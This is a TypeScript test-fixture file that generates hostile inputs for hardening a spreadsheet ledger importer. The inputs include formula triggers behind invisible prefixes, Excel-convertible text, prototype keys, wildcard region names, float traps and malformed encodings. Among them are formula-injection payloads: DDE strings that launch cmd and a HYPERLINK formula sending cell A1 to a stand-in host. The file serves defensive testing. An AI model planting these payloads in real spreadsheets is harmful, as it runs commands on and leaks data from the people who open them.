/**
 * The hostile corpora of issue 12, one per class of defect, written against the class (generated where the class
 * has a shape: every trigger behind every kind of invisible prefix, every Excel-convertible form…). Each class test
 * in this folder draws its cases from here, and test/hardening/count.test.ts prints how many there are per class
 * (at least 200 in all). Property tests (fast-check) come on top of these fixed cases.
 */

/** Formula triggers, ASCII and full width. */
export const TRIGGERS = ["=", "+", "-", "@", "＝", "＋", "－", "＠"] as const;

/** What a spreadsheet or an importer may trim in front of a trigger. */
export const INVISIBLE_PREFIXES = [
  "",
  "\t",
  "\r",
  "\n",
  "\r\n",
  " ",
  "  ",
  "\u00A0",
  "\u3000",
  "\u2002",
  "\u2007",
  "\u202F",
  "\u205F",
  "\uFEFF",
  "\u200B",
  "\t\u3000",
] as const;

/** What follows a trigger in real payloads: arithmetic, functions, DDE, HYPERLINK. */
export const PAYLOAD_TAILS = [
  "1+1",
  "SUM(1,2)",
  'HYPERLINK("http://evil.example/?x="&A1,"点击")',
  "cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"!A0")',
  "2+5+cmd|' /C calc'!A0",
] as const;

/** Every trigger behind every invisible prefix, with every tail (8 × 16 × 6 = 768 strings). */
export function formulaPayloads(): string[] {
  const out: string[] = [];
  for (const p of INVISIBLE_PREFIXES)
    for (const t of TRIGGERS) for (const tail of PAYLOAD_TAILS) out.push(`${p}${t}${tail}`);
  return out;
}

/**
 * Text that Excel converts when typed (or written to Range.values), in a zh-CN or en-US locale: dates, times,
 * currency, accounting negatives, fractions, percentages, thousands separators, full-width digits, booleans, error
 * literals, leading zeros, a leading apostrophe (itself eaten), exponents.
 */
export const CONVERTIBLE_TEXT = [
  "2025年3月31日",
  "2025年3月",
  "3月5日",
  "2025年03月31日",
  "¥1,000",
  "￥1,000",
  "$1,000",
  "¥1000.50",
  "(100)",
  "(1,000)",
  "1 1/2",
  "0 1/2",
  "1/2",
  "12/31",
  "12:30",
  "12:30:15",
  "8:05 PM",
  "8:05am",
  "50%",
  "12.5%",
  "-3%",
  "1,234",
  "1,234.5",
  "1,234.5,678",
  "１２３",
  "１，２３４",
  "０．５",
  "１２：３０",
  "２０２５年３月３１日",
  "TRUE",
  "false",
  "True",
  "ＴＲＵＥ",
  " TRUE ",
  "#N/A",
  "#DIV/0!",
  "#VALUE!",
  "#REF!",
  "#NAME?",
  "#NUM!",
  "#NULL!",
  "#SPILL!",
  "#CALC!",
  "'=1+1",
  "''",
  "'abc",
  "'0012",
  "0012",
  "00",
  "007",
  "1e5",
  "1E-3",
  "2025-03-31",
  "2025/3/31",
  "2025-3",
  "2025.3.31",
  "3-5",
  "Mar 5",
  "5-Mar-2025",
  "March 2025",
  "3.31",
  "-0",
  "+5",
  ".5",
  "1.",
  " 12 ",
  "\u00A012",
  "12\u00A0",
  "\t12",
  "1\u00A0234",
  "12 345",
  "٣",
  "१२३",
  "Ⅻ",
  "①",
  "²",
] as const;

/** Region names with line breaks: a new briefing line must never start inside a region name. */
export const MULTILINE_NAMES = [
  "西宁\n=1+1",
  "甲\r\n@SUM(1)",
  "乙\r+cmd|' /C calc'!A0",
  "丙\u2028-1+1",
  '丁\u2029=HYPERLINK("http://x")',
  "戊\v=1",
  "己\f=1",
  "庚\u0085=1",
] as const;

/** Names Object.prototype answers to: a lookup table that is a plain object returns its functions for them. */
export const PROTOTYPE_KEYS = [
  "constructor",
  "__proto__",
  "toString",
  "hasOwnProperty",
  "valueOf",
  "isPrototypeOf",
  "propertyIsEnumerable",
  "toLocaleString",
  "__defineGetter__",
  "__lookupGetter__",
  "__defineSetter__",
  "__lookupSetter__",
  "prototype",
] as const;

/** Where cell text meets a lookup table in the importer: each field gets every prototype key. */
export const LOOKUP_FIELDS = [
  { kind: "ledger", column: "项目阶段" },
  { kind: "ledger", column: "企业类型" },
  { kind: "figures", column: "截至月份" },
  { kind: "figures", column: "状态" },
  { kind: "targets", column: "指标" },
  { kind: "targets", column: "单位" },
  { kind: "funds", column: "省外资金" },
] as const;

/** Names, ids and regions that merely contain a total-like word: data, never a total row. */
export const TOTAL_LIKE_DATA = {
  name: [
    "Total",
    "TOTAL能源",
    "Total Energies 光伏",
    "合计收入分成项目",
    "SUM光伏",
    "Sum",
    "小计划项目",
    "总计划投资项目",
    "共计划",
    "累计合计",
    "合计",
    "小计",
    "Grand Total Hotel",
    "合 计",
  ],
  id: ["Total2", "SUM-01", "合计-001", "TOTAL", "小计1"],
  region: ["Total", "合计区", "Sum County", "总计镇", "小计", "合计"],
} as const;

/** Total and subtotal labels as ledgers write them, each standing alone in a label cell of an otherwise blank row. */
export const TOTAL_LABELS = [
  "合计",
  "合 计",
  "合　计",
  "合计：",
  "合计:",
  "合计（万元）",
  "合计(亿元)",
  "小计",
  "小计：",
  "总计",
  "共计",
  "总合计",
  "全部合计",
  "本页合计",
  "累计合计",
  "Total",
  "TOTAL",
  "Total:",
  "Grand Total",
  "Subtotal",
  "SUM",
  "ｔｏｔａｌ",
] as const;

/** Amount sequences (亿元) whose plain left-to-right sum depends on the order or loses digits. */
export const FLOAT_TRAPS: number[][] = [
  [0.1, 0.2, 0.3],
  [0.1, 0.1, 0.1, 0.1, 0.1, 0.1, 0.1, 0.1, 0.1, 0.1],
  [1e16, 1, -1e16 + 2],
  [1e8, 1e-8, -1e8],
  [0.35, 0.000035, 1234.56789, 0.00000001],
  [3.3, 2.2, 1.1],
  [1e-8, 1e-8, 1e-8, 1e8],
  [123456789.12345678, 0.00000001, 0.00000002],
  [0.7, 0.6, 0.1, 0.2],
  [9007199254740992, 1, 1],
  [2.675, 2.675, 2.675],
  [1 / 3, 1 / 3, 1 / 3],
  [0.3, -0.1, -0.2],
  [1e-300, 1e300, -1e300],
  [5e-324, 5e-324, 1],
  [100.01, 200.02, 300.03, 400.04],
  [1.005, 2.005, 3.005],
  [4.35, 4.35, 4.35, 4.35],
  [0.57, 0.29, 0.14],
  [99999.99999999, 0.00000001],
];

/** Byte sequences that are not UTF-8: a stray byte, a truncated sequence, an overlong, an encoded surrogate, > U+10FFFF. */
export const BAD_UTF8 = [
  [0xff],
  [0x80],
  [0xfe],
  [0xc3],
  [0xe4, 0xb8],
  [0xc0, 0xaf],
  [0xed, 0xa0, 0x80],
  [0xf5, 0x80, 0x80, 0x80],
  [0xf4, 0x90, 0x80, 0x80],
  [0xe0, 0x80, 0xaf],
] as const;
/** Where in a 2,000-row UTF-8 file the bad bytes go (row numbers, CSV records; 1 is the header). */
export const BAD_UTF8_ROWS = [2, 3, 1000, 2001] as const;

/** Text fields of each kind, as column titles, that a too-long cell can sit in. */
export const LONG_TEXT_FIELDS = {
  ledger: ["项目编号", "项目名称", "所属地区", "园区", "产业类别", "投资方", "投资来源地", "备注", "来源"],
  funds: ["项目编号", "所属地区", "来源"],
  targets: ["所属地区", "推算依据", "来源"],
  figures: ["所属地区", "口径", "原文", "来源"],
} as const;
/** Lengths around Excel's cell limit of 32,767 characters. */
export const LONG_LENGTHS = [32767, 32768, 40000, 100000] as const;

/** Region names that a raw SUMIFS criterion would misread (wildcards, operators), all of them valid names. */
export const CRITERION_REGIONS = [
  "西宁*",
  "西?市",
  "海~东",
  "*",
  "?",
  "~",
  "~*",
  "区**",
  "西宁~?",
  "西宁市",
  "海东市",
  "西",
  "宁",
  "Total",
  "(西宁)",
  "+西宁",
  "-西宁",
  "@西宁",
  "西宁 市",
  "'西宁",
  '"西宁"',
  "西宁#",
  "[西宁]",
  "西宁&海东",
  "西.宁",
  "西宁市·城东",
  "西^宁$",
  "西\\宁",
] as const;
/** Names that differ only in case or width: one region for Excel, so one region everywhere. */
export const CASE_WIDTH_VARIANTS = [
  ["ABC区", "abc区", "Ａｂｃ区", "ＡＢＣ区"],
  ["Xining", "XINING", "xining"],
  ["Σ区", "σ区"],
] as const;
/**
 * Names no criterion matches exactly in every engine: read as values (numbers, dates, times, booleans, errors), starting
 * with an operator, or too long: rejected at import.
 */
export const VALUE_LIKE_REGIONS = [
  "0012",
  "12",
  "1e5",
  "1,234",
  "50%",
  "TRUE",
  "false",
  "#N/A",
  "3月5日",
  "2025-03-01",
  "2025年3月",
  "12:30",
  "(100)",
  "¥1,000",
  "１２",
  "Mar 5",
  "1 1/2",
  "x".repeat(256),
  "*".repeat(128),
  "<西宁",
  ">=海东",
  "=西宁",
  "<>",
  "<>西宁市",
  "=1+1",
  ">",
  "==",
  "=12",
  "<5",
  " =西宁",
  "\t<>",
  "＝西宁",
  "＜西宁",
  "西<>宁",
  "西=宁",
  "西宁>",
  "西宁市\n=1+1",
  "西宁\t市",
  "西\r宁",
  "西宁\u2028市",
  "西宁|",
] as const;

/** Characters XML 1.0 cannot hold: C0 controls but tab, LF and CR; U+FFFE, U+FFFF; lone surrogates. */
export const XML_INVALID_CHARS = [
  ...Array.from({ length: 32 }, (_, c) => String.fromCharCode(c)).filter((c) => !"\t\n\r".includes(c)),
  "\uFFFE",
  "\uFFFF",
  "\uD800",
  "\uDFFF",
];

/** Numbers that are not numbers: misplaced separators, two points, signs, other scripts, exotic forms. */
export const MALFORMED_NUMBERS = [
  "1,234.5,678",
  "1,2,3",
  "1,23",
  "12,34,567",
  "1.234,5",
  "1,234,56",
  "1..2",
  "1.2.3",
  "--5",
  "+-5",
  "1e",
  "e5",
  "0x10",
  "Infinity",
  "NaN",
  "1_000",
  "١٢٣",
  "½",
  "1,234,5678",
  ",123",
  "1,,234",
  "12 34",
  "1'234",
  "١,٢٣٤",
] as const;

/** Formula cells without a cached value, as exceljs gives them (class 6), each in three fields. */
export const UNCACHED_FORMULAS: [string, Record<string, unknown>][] = [
  ["plain formula", { formula: "SUM(C2:C3)" }],
  ["formula with an undefined result", { formula: "A1*2", result: undefined }],
  ["shared formula", { sharedFormula: "D2" }],
  ["HYPERLINK formula", { formula: 'HYPERLINK("http://x","y")' }],
  ["array formula", { formula: "TRANSPOSE(A1:A3)", result: null }],
  ["formula starting with =", { formula: "=1+1" }],
];

/**
 * How many fixed hostile cases each class has (test/hardening/count.test.ts prints them). Literal counts are of the
 * hand-built cases in the named test file.
 */
export function classCounts(): [string, number][] {
  return [
    [
      "1 text cells: formula payloads (8 triggers × 16 prefixes × 6 tails), Excel-convertible text, multi-line names",
      formulaPayloads().length + CONVERTIBLE_TEXT.length + MULTILINE_NAMES.length,
    ],
    [
      "2 total rows: total-like words in names, ids, regions; labels in three label cells",
      TOTAL_LIKE_DATA.name.length + TOTAL_LIKE_DATA.id.length + TOTAL_LIKE_DATA.region.length + TOTAL_LABELS.length * 3,
    ],
    [
      "3 encoding: bad UTF-8 sequences × rows × two headers; NUL, U+FFFD, lone surrogates",
      BAD_UTF8.length * BAD_UTF8_ROWS.length * 2 + 6,
    ],
    [
      "4 regions as criteria: wildcards, case/width variants, value-like, operators, breaks, too long",
      CRITERION_REGIONS.length + CASE_WIDTH_VARIANTS.flat().length + VALUE_LIKE_REGIONS.length,
    ],
    [
      "5 lookups by object key: prototype keys × lookup fields, titles, mappings, metrics",
      PROTOTYPE_KEYS.length * (LOOKUP_FIELDS.length + 4),
    ],
    ["6 formula cells without a cached value: kinds × fields, and a real xlsx", UNCACHED_FORMULAS.length * 3 + 1],
    // xlsx-bombs.test.ts: 8 bombs, 5 malformed zips, ZIP64, a workbook under the limits, the CLI, an endless CSV record.
    ["7 xlsx bombs and malformed zips (xlsx-bombs.test.ts)", 17],
    ["8 characters XML cannot hold, each in names, regions and notes", XML_INVALID_CHARS.length],
    [
      "9 cells over 32,767 characters: text fields × lengths; composed 来源; xlsx, JSON, table; the simulator",
      Object.values(LONG_TEXT_FIELDS).reduce((n, f) => n + f.length, 0) * LONG_LENGTHS.length + 3,
    ],
    // brief-cli.test.ts: a problem in each of the four files × json, md, xlsx; warnings only; an unreadable file.
    ["10 brief hiding problems (brief-cli.test.ts)", 4 * 3 + 2],
    [
      "11 numbers and dates: malformed numbers as amount and count and in a ledger; serials 59/60/61/1",
      MALFORMED_NUMBERS.length * 3 + 4,
    ],
    ["12 order-dependent sums: float traps in every order", FLOAT_TRAPS.length],
    ["13 one refresh path: four kinds of rejected rows × task pane, ribbon, library", 4 * 3],
  ];
}

/** Property tests on top of the fixed cases: generated inputs per run × runs. */
export const PROPERTY_RUNS: [string, number][] = [
  ["1 random text behind triggers and prefixes into the simulated Excel (batches of up to 25)", 60],
  ["1 textCell: inert or prefixed, never altered", 500],
  ["2 row accounting over random ledgers, as a table and as CSV", 300],
  ["3 random damage to a UTF-8 ledger", 60],
  ["11 thousands grouping, misplaced commas", 500],
  ["12 permutations of records, funds, targets and figures", 300],
  ["12 CSV text vs JSON numbers", 200],
];
